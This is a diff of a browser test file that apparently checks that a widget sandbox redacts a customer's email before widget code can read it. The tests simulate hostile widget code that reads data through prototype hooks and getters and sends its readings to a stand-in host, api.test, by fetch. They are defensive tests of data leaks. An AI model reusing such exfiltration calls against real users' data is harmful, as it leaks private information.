@@ -8,6 +8,13 @@ import { PAGE_CSP, served, useBrowser, waitForServed } from './helpers.mjs';
 
 const session = useBrowser();
 
+/** The page sent what it read to api.test/v1/<marker>/: no secret reached a server, and the readings are `expected`. */
+async function assertOnlySanitizedLeft(marker, readings, expected) {
+  await waitForServed(`api.test/v1/${marker}/`);
+  assert.ok(!served.some((request) => request.includes('jane.doe')), readings.join(' '));
+  assert.deepEqual(readings, expected);
+}
+
 // The host's bridge (as the Apps SDK host puts it in the widget's realm before any widget script),
 // and its announcement of new props: an `openai:set_globals` event carrying them in detail.globals.
 const HOST = `<script>
@@ -79,9 +86,7 @@ test('props: code the widget hooks into serialization (a toJSON on Object.protot
     await fetch(`https://api.test/v1/adv-props-hooks/${encodeURIComponent([...readings, ...seen].join(' '))}`);
     return readings;
   });
-  await waitForServed('api.test/v1/adv-props-hooks/');
-  assert.ok(!served.some((request) => request.includes('jane.doe')), readings.join(' '));
-  assert.deepEqual(readings, [
+  await assertOnlySanitizedLeft('adv-props-hooks', readings, [
     'objectToJSON refused',
     'arrayToJSON refused',
     'hasInstance={"customer":{"email":"[REDACTED:email]"}}',
@@ -108,9 +113,7 @@ test('props: a host bridge whose props are getters of its class (not own propert
     await fetch(`https://api.test/v1/adv-props-class/${encodeURIComponent(readings.join(' '))}`);
     return readings;
   });
-  await waitForServed('api.test/v1/adv-props-class/');
-  assert.ok(!served.some((request) => request.includes('jane.doe')), readings.join(' '));
-  assert.deepEqual(readings, [
+  await assertOnlySanitizedLeft('adv-props-class', readings, [
     'prop={"customer":{"email":"[REDACTED:email]"}}',
     'prototypeGetter={"customer":{"email":"[REDACTED:email]"}}',
   ]);
